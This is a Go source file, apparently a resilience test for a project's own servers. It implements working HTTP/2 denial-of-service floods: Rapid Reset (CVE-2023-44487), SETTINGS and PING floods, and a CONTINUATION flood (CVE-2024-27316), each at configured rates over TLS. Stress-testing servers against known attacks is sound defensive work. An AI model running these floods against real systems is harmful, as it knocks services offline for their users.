//go:build rude

package rude

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	floodConnections = 4
	framesPerFlush   = 50
	// Frames a second: what a server does for each is very different. More would measure how the clients and the two
	// servers share the processors.
	streamRate       = 20_000
	frameRate        = 100_000
	continuationRate = 20_000
)

// flood opens HTTP/2 connections and has next write frames at a rate; n counts from 0 on each connection.
func (c *client) flood(ctx context.Context, rate int, next func(f *http2.Framer, n uint32) error) {
	c.loop(ctx, floodConnections, 10*time.Millisecond, func(int) error {
		conn, err := c.dial(ctx)
		if err != nil {
			return err
		}
		defer conn.Close()
		secured := tls.Client(conn, insecure("h2"))
		if err := secured.HandshakeContext(ctx); err != nil {
			return err
		}
		go func() { _, _ = io.Copy(io.Discard, secured) }()
		w := bufio.NewWriterSize(secured, 16<<10)
		if _, err := w.WriteString(http2.ClientPreface); err != nil {
			return err
		}
		framer := http2.NewFramer(w, nil)
		framer.AllowIllegalWrites = true
		err = framer.WriteSettings()
		gap := time.NewTicker(floodConnections * framesPerFlush * time.Second / time.Duration(rate))
		defer gap.Stop()
		for n := uint32(0); err == nil && ctx.Err() == nil; n++ {
			if err = next(framer, n); err == nil && n%framesPerFlush == 0 {
				err = w.Flush()
				c.count("flushes of 50")
				<-gap.C
			}
		}
		if ctx.Err() == nil {
			c.count("closed by the server")
		}
		return err
	})
}

// headerBlock is the header of a POST with the right secret.
func headerBlock() []byte {
	var b bytes.Buffer
	encoder := hpack.NewEncoder(&b)
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "exporter"},
		{Name: ":path", Value: "/webhook/" + secret}, {Name: "content-type", Value: "application/json"},
	} {
		_ = encoder.WriteField(f) // A bytes.Buffer takes everything.
	}
	return b.Bytes()
}

// rapidReset opens streams and resets them at once (CVE-2023-44487).
func rapidReset(ctx context.Context, c *client) {
	c.flood(ctx, streamRate, func(f *http2.Framer, n uint32) error {
		stream := 2*n + 1
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: headerBlock(), EndHeaders: true}); err != nil {
			return err
		}
		return f.WriteRSTStream(stream, http2.ErrCodeCancel)
	})
}

func settingsFlood(ctx context.Context, c *client) {
	c.flood(ctx, frameRate, func(f *http2.Framer, n uint32) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + n%2}, http2.Setting{ID: http2.SettingHeaderTableSize, Val: n % 4096})
	})
}

func pingFlood(ctx context.Context, c *client) {
	c.flood(ctx, frameRate, func(f *http2.Framer, n uint32) error { return f.WritePing(false, [8]byte{byte(n)}) })
}

// continuationFlood sends a header that does not end (CVE-2024-27316).
func continuationFlood(ctx context.Context, c *client) {
	var filler bytes.Buffer
	_ = hpack.NewEncoder(&filler).WriteField(hpack.HeaderField{Name: "x-filler", Value: strings.Repeat("a", 1000), Sensitive: true})
	c.flood(ctx, continuationRate, func(f *http2.Framer, n uint32) error {
		if n == 0 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headerBlock()})
		}
		return f.WriteContinuation(1, false, filler.Bytes())
	})
}
